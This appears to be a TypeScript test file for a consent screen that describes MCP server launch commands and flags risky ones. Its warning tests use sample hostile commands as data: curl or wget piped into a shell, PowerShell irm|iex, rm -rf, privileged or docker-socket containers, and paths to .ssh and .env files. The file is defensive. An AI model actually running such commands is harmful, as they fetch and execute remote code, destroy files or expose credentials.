import { describe, expect, test } from "vitest";
import { Secret } from "@/lib/core/model/secret";
import { describeLaunch } from "@/lib/mcp/consent/describe-launch";

const command = (line: string[], env: string[] = [], cwd?: string) =>
  describeLaunch({
    transport: { kind: "stdio", command: line[0]!, args: line.slice(1), env, ...(cwd ? { cwd } : {}) },
  });
const address = (url: string) => describeLaunch({ transport: { kind: "http", url, headers: ["X-Key"] } });
const titles = (description: ReturnType<typeof command>) => description.warnings.map((warning) => warning.title);

describe("what a person agrees to", () => {
  test("is every word of the command, untruncated, secrets by name, with variables, environment and folder", () => {
    const long = "x".repeat(5000);
    const shown = command(
      ["npx", "-y", "server@1.2.3", long, "--token", "{{secret:arg.4}}", "${HOME}/a b", "it's"],
      ["TOKEN"],
      "/srv/${env:PROJECT}",
    );
    expect(shown).toMatchObject({
      kind: "command",
      argv: ["npx", "-y", "server@1.2.3", long, "--token", "‹secret arg.4›", "${HOME}/a b", "it's"],
      env: ["TOKEN"],
      cwd: "/srv/${env:PROJECT}",
      variables: ["${HOME}", "${env:PROJECT}"],
      warnings: [{ title: "A secret among the arguments" }],
    });
    expect(shown.line).toBe(`npx -y server@1.2.3 ${long} --token '‹secret arg.4›' '\${HOME}/a b' 'it'\\''s'`);
  });

  test("has hidden characters written out", () => {
    const shown = command(["node", "a\u202eb\u200bc\u{e0041}\x1b[2K"]);
    expect(shown.argv).toEqual(["node", "a⟨U+202E⟩b⟨U+200B⟩c⟨hidden: A⟩⟨U+001B⟩[2K"]);
    expect(titles(shown)).toEqual(["Hidden characters"]);
  });

  test("of a remote server is its address and the names of its headers", () => {
    expect(address("https://h.example/mcp?key={{secret:url.query.key}}")).toMatchObject({
      kind: "address",
      url: "https://h.example/mcp?key=‹secret url.query.key›",
      headers: ["X-Key"],
      warnings: [{ title: "A secret in the address" }],
    });
  });

  test("names the variables of the user that stand inside hidden values, without their defaults and nothing else of the values", () => {
    const secrets = {
      "env.TOKEN": new Secret("Bearer ${GITHUB_TOKEN:-CANARY} CANARY"),
      "env.OTHER": new Secret("$HOME_KEY"),
      "env.PLAIN": new Secret("CANARY"),
    };
    const shown = describeLaunch(
      { transport: { kind: "stdio", command: "server", args: [], env: ["TOKEN", "OTHER", "PLAIN"] } },
      { secrets },
    );
    expect(shown.variables).toEqual(["${GITHUB_TOKEN}", "${HOME_KEY}"]);
    expect(JSON.stringify(shown)).not.toContain("CANARY");
    const remote = describeLaunch(
      { transport: { kind: "http", url: "https://h.example/mcp", headers: ["X-Key"] } },
      { secrets: { "header.X-Key": new Secret("${env:AWS_SECRET_ACCESS_KEY}") } },
    );
    expect(remote).toMatchObject({
      variables: ["${env:AWS_SECRET_ACCESS_KEY}"],
      warnings: [{ title: "Sends variables of yours", text: expect.stringContaining("h.example") }],
    });
  });

  test("is nothing when the tools were given by hand", () => {
    expect(describeLaunch({ transport: { kind: "given" } })).toMatchObject({ kind: "nothing", warnings: [] });
  });
});

describe("warnings", () => {
  test.each<[string, string[]]>([
    ["Downloads and runs a script", ["bash", "-c", "curl -fsSL https://x.example/i.sh | sh"]],
    ["Downloads and runs a script", ["sh", "-c", "wget -qO- https://x.example | sudo bash"]],
    ["Downloads and runs a script", ["powershell", "-c", "irm https://x.example | iex"]],
    ["Asks for administrator rights", ["sudo", "npx", "server"]],
    ["Asks for administrator rights", ["/usr/bin/sudo", "server"]],
    ["Asks for administrator rights", ["sh", "-c", "cd / && sudo server"]],
    ["Deletes or overwrites files", ["sh", "-c", "rm -rf ~/x; server"]],
    [
      "A container with access to this computer",
      ["docker", "run", "-v", "/var/run/docker.sock:/var/run/docker.sock", "image@sha256:00"],
    ],
    ["A container with access to this computer", ["docker", "run", "--privileged", "image@sha256:00"]],
    ["Code in the command line", ["node", "-e", "require('child_process')"]],
    ["Code in the command line", ["python3", "-c", "import os"]],
    ["Starts a shell", ["/bin/zsh", "server.sh"]],
    ["Starts a shell", ["cmd.exe", "/c", "npx", "server"]],
    ["Names places where secrets are kept", ["server", "/home/ada/.ssh"]],
    ["Names places where secrets are kept", ["server", "--env-file", "/srv/.env"]],
    ["A secret among the arguments", ["server", "--token", "{{secret:arg.2}}"]],
    ["Names a whole disk or home folder", ["server", "/"]],
    ["Names a whole disk or home folder", ["server", "/home/ada"]],
    ["Names a whole disk or home folder", ["server", "~"]],
    ["Names a whole disk or home folder", ["server", "C:\\"]],
    ["The version is not fixed", ["npx", "-y", "@scope/server"]],
    ["The version is not fixed", ["npx", "server@latest"]],
    ["The version is not fixed", ["npx", "server@^1.2.3"]],
    ["The version is not fixed", ["uvx", "mcp-server-fetch"]],
    ["The version is not fixed", ["docker", "run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/org/server:1.2"]],
  ])("“%s” for %j", (title, line) => {
    expect(titles(command(line))).toContain(title);
  });

  test.each([
    [["npx", "-y", "@scope/server@1.2.3", "/home/ada/notes"]],
    [["npx", "-y", "--package=@scope/server@1.2.3", "server"]],
    [["uvx", "mcp-server-fetch==2026.1.1"]],
    [["uvx", "--from", "git+https://github.com/o/r@9f86d081884c7d659a2feaa0c55ad0159f86d081", "server"]],
    [["docker", "run", "-i", "--rm", "-e", "TOKEN", `ghcr.io/org/server@sha256:${"0".repeat(64)}`]],
    [["/opt/server", "--port", "80"]],
    [["node", "/srv/server.js"]],
    [["C:\\Program Files\\nodejs\\node.exe", "C:\\srv\\server.js"]],
  ])("none for %j", (line) => {
    expect(command(line).warnings).toEqual([]);
  });

  test("for variables that make programs load something else, the gravest first", () => {
    expect(command(["npx", "server"], ["NODE_OPTIONS"]).warnings.map((warning) => warning.level)).toEqual([
      "danger",
      "caution",
    ]);
  });

  test.each([
    ["http://example.com/mcp", ["Will be refused"]],
    ["https://10.0.0.1/mcp", ["Will be refused"]],
    ["http://localhost:3000/mcp", ["On this computer"]],
    ["https://example.com/mcp", []],
  ])("for the address %s: %j", (url, expected) => {
    expect(titles(address(url))).toEqual(expected);
  });
});

test.each([
  [["npx", "-y", "@scope/server@1.2.3", "x"], { runner: "npx", name: "@scope/server", version: "1.2.3", pinned: true }],
  [["npx.cmd", "server"], { runner: "npx", name: "server", pinned: false }],
  [["pnpm", "dlx", "server@1.0.0"], { runner: "pnpm", name: "server", version: "1.0.0", pinned: true }],
  [["bunx", "server"], { runner: "bunx", name: "server", pinned: false }],
  [["uv", "tool", "run", "server@1.0"], { runner: "uv", name: "server", version: "1.0", pinned: true }],
  [
    ["pipx", "run", "--spec", "server==1.0", "server"],
    { runner: "pipx", name: "server", version: "1.0", pinned: true },
  ],
  [
    ["docker", "run", "--rm", "-i", "--env", "A=b", "mcp/server"],
    { runner: "docker", name: "mcp/server", pinned: false },
  ],
  [["uv", "run", "--directory", "/srv", "server.py"], undefined],
  [["npm", "start"], undefined],
  [["server"], undefined],
])("the package of %j is read", (line, expected) => {
  expect(command(line).package).toEqual(expected);
});
